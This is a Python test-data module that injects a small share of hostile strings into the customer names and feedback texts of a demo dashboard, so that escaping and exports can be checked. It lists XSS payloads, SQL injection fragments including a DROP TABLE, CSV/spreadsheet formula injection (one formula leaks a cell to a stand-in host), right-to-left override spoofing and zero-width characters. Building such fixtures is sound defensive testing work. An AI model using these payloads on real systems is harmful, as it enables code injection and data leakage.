"""Opt-in hostile strings for the demo data (``--hostile``): real feedback contains junk too.

From the project's security checklist: markup that would run if shown unescaped, SQL fragments,
spreadsheet formulas, a right-to-left override, zero-width characters and a very long text. With
``hostile=True`` about 0.5% of feedback texts and customer names carry one of them (the rest of the
data is unchanged), so the dashboard, exports and analytics can be checked end to end.
"""

from __future__ import annotations

import numpy as np
import pandas as pd

HOSTILE_TEXTS: tuple[str, ...] = (
    '"><img src=x onerror=alert(1)> 物流太慢了',
    "<script>alert(1)</script> package arrived crushed",
    '"><svg/onload=prompt(1)> 客服态度差',
    "1'; SELECT SLEEP(5)-- 退款一直没到",
    "' OR '1'='1 价格太贵",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"x") 质量很好',
    "@SUM(1+1) 包装破损",
    "\t=1+1 还行",
    "+1 好评 \u202egnp.exe",
    "物流\u200b很\u200b快，包装\u200d也好",
    "javascript:alert(1) 页面打不开",
)
HOSTILE_NAMES: tuple[str, ...] = (
    '"><img src=x onerror=alert(1)>', "=HYPERLINK(\"http://x\",\"x\")", "@SUM(1+1)",
    "-2+3", "Robert'); DROP TABLE customers;--", "王\u202e伟",
)  # fmt: skip
SHARE = 0.005


def add_hostile(
    seed: int, customers: pd.DataFrame, feedback: pd.DataFrame
) -> tuple[pd.DataFrame, pd.DataFrame, np.ndarray]:
    """Copies of the frames with ~0.5% of names and texts replaced, and the replaced text rows."""
    rng = np.random.default_rng([seed, 0x4057])
    customers, feedback = customers.copy(), feedback.copy()
    n_fb = max(len(HOSTILE_TEXTS), round(SHARE * len(feedback)))
    rows = np.sort(rng.choice(len(feedback), size=min(n_fb, len(feedback)), replace=False))
    picks = [HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)] for i in range(len(rows))]
    feedback.loc[rows, "text"] = picks
    long_row = int(rng.integers(0, len(feedback)))
    feedback.loc[long_row, "text"] = "太慢了" * 10_000  # a 30,000-character text
    n_names = max(len(HOSTILE_NAMES), round(SHARE * len(customers)))
    who = np.sort(rng.choice(len(customers), size=min(n_names, len(customers)), replace=False))
    customers.loc[who, "name"] = [HOSTILE_NAMES[i % len(HOSTILE_NAMES)] for i in range(len(who))]
    return customers, feedback, np.union1d(rows, [long_row])
